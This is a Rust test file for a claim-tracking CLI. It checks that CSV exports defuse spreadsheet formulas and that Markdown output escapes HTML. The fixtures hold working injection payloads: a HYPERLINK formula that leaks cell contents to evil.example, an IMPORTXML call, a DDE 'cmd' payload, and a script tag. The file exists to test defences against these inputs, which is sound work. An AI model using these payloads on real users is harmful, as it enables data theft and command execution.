//! Text from an article, its metadata or a reviewer never reaches a spreadsheet as a
//! formula or a Markdown viewer as HTML: every `--format csv` read back cell by cell.

mod common;

use std::fs;
use std::path::Path;

use common::bin;

/// An article whose claims start the way spreadsheet formulas do, with HTML in it.
const ARTICLE: &str =
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") GDP grew 3% in 2024.\n\n\
@SUM(A1:A9) Exports rose 5% to $2 billion in 2023, officials said.\n\n\
+cmd|' /C calc'!A0 Prices fell 2% in 2022.\n\n\
-2+3 Inflation was 4% in 2021 & more, as 3 < 4 > 2.\n";

/// RFC 4180 records, as a spreadsheet reads them.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "CSV ends mid-record"
    );
    rows
}

/// Whether a spreadsheet would evaluate `cell` as a formula.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '@', '\t', '\r'])
        || (cell.starts_with('-') && cell != "-" && cell[1..].parse::<f64>().is_err())
}

fn run(db: &Path, args: &[&str]) -> String {
    let out = bin()
        .env("CLAIMTRACE_REVIEWER", "=cmd|' /C calc'!A0")
        .args(["--db", db.to_str().unwrap()])
        .args(args)
        .assert()
        .success();
    String::from_utf8(out.get_output().stdout.clone()).unwrap()
}

fn desk() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let article = dir.path().join("a.txt");
    fs::write(&article, ARTICLE).unwrap();
    let db = dir.path().join("t.db");
    run(
        &db,
        &[
            "ingest",
            "--quiet",
            "--title",
            "@IMPORTXML(\"http://evil.example\")",
            article.to_str().unwrap(),
        ],
    );
    run(
        &db,
        &["review", "1", "--status", "in_review", "--note", "=1+1"],
    );
    run(&db, &["flag", "2", "--against", "1", "--reason", "+SUM(1)"]);
    (dir, db)
}

#[test]
fn no_csv_cell_runs_as_a_formula_and_each_keeps_its_text() {
    let (_dir, db) = desk();
    let outputs = [
        vec!["claims", "--format", "csv"],
        vec!["documents", "--format", "csv"],
        vec!["history", "1", "--format", "csv"],
        vec!["history", "2", "--format", "csv"],
        vec!["report", "unsourced", "--format", "csv"],
        vec!["report", "contested", "--format", "csv"],
        vec!["report", "status", "--format", "csv"],
        vec!["export", "--format", "csv"],
    ];
    let mut cells = Vec::new();
    for args in &outputs {
        let rows = read_csv(&run(&db, args));
        assert!(rows.len() > 1, "{args:?} printed no rows");
        for row in rows {
            for cell in row {
                assert!(!runs_as_formula(&cell), "{args:?}: {cell:?}");
                cells.push(cell);
            }
        }
    }
    // The text is all there, behind the quote a spreadsheet hides.
    for expected in [
        "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") GDP grew 3% in 2024.",
        "'@SUM(A1:A9) Exports rose 5% to $2 billion in 2023, officials said.",
        "'@IMPORTXML(\"http://evil.example\")",
        "'=1+1",
        "'=cmd|' /C calc'!A0",
        "'+SUM(1)",
    ] {
        assert!(cells.iter().any(|c| c == expected), "missing {expected:?}");
    }
    assert!(cells.iter().any(|c| c.starts_with("'-2+3 Inflation")));
    // A negative figure stays a number.
    assert!(
        cells.iter().any(|c| c == "-2"),
        "no -2 cell: {:?}",
        cells
            .iter()
            .filter(|c| c.contains("-2"))
            .collect::<Vec<_>>()
    );
}

#[test]
fn markdown_output_carries_no_html() {
    let (_dir, db) = desk();
    run(
        &db,
        &["review", "1", "--note", "<script>alert(1)</script> & more"],
    );
    for args in [
        vec!["claims", "--format", "markdown"],
        vec!["history", "1", "--format", "markdown"],
        vec!["documents", "--format", "markdown"],
    ] {
        let md = run(&db, &args);
        assert!(!md.contains('<') && !md.contains('>'), "{args:?}: {md}");
        if args[0] == "claims" {
            assert!(
                md.contains("in 2021 &amp; more, as 3 &lt; 4 &gt; 2."),
                "{md}"
            );
        }
        if args[0] == "history" {
            assert!(
                md.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more"),
                "{md}"
            );
        }
    }
}
